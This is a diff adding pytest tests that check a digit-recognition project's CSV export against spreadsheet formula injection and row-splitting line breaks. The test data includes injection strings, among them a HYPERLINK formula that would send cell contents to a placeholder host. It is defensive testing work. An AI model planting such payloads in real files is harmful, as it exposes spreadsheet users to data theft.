@@ -9,7 +9,7 @@ from pathlib import Path
 import pytest
 
 from signdigits.prediction import Prediction
-from signdigits.results import CSV_COLUMNS, csv_writer, to_csv, to_row
+from signdigits.results import CSV_COLUMNS, FORMULA_STARTS, csv_writer, to_csv, to_row
 
 GOOD = Prediction(name="a.jpg", digit=3, confidence=0.9, probabilities=(0.01,) * 3 + (0.9,) + (0.0125,) * 6)
 BAD = Prediction(name="b.jpg", error="not a supported image")
@@ -39,6 +39,28 @@ def test_csv_round_trip(name):
     assert text.splitlines()[0] == ",".join(CSV_COLUMNS)
     assert [r["file"] for r in rows] == ["a.jpg", name, "b.jpg"]
     assert rows[1]["error"] == "bad, really"
+
+
+@pytest.mark.parametrize("name", ['=HYPERLINK("http://x.example/?"&A1,"click").jpg', "+1.jpg",
+                                  "-2+3.jpg", "@SUM(A1).jpg", "\tcmd.jpg", "\rcmd.jpg"])
+def test_no_cell_can_start_a_formula(name):
+    text = to_csv([Prediction(name=name, error="=also(here)"), GOOD])
+    rows = list(csv.DictReader(io.StringIO(text, newline="")))
+    assert rows[0]["file"] == "'" + name and rows[0]["error"] == "'=also(here)"
+    for row in rows:
+        assert not any(cell.startswith(FORMULA_STARTS) for cell in row.values())
+
+
+@pytest.mark.parametrize("name", ["a\r=cmd().jpg", "a\n=cmd().jpg", "a\r\n@cmd().jpg"])
+def test_a_line_break_inside_a_name_starts_no_row(name):
+    text = to_csv([Prediction(name=name, error="unreadable")])
+    assert [row["file"] for row in csv.DictReader(io.StringIO(text, newline=""))] == [name]
+    assert text.count("\r\n") == 2 + name.count("\r\n")  # header, row, and the name's own
+
+
+@pytest.mark.parametrize("name", ["a=b.jpg", "photos/-1.jpg", "'quoted.jpg", " =space.jpg"])
+def test_other_text_is_left_alone(name):
+    assert to_row(Prediction(name=name, error="unreadable"))["file"] == name
 
 
 def test_csv_writer_writes_the_header_once():
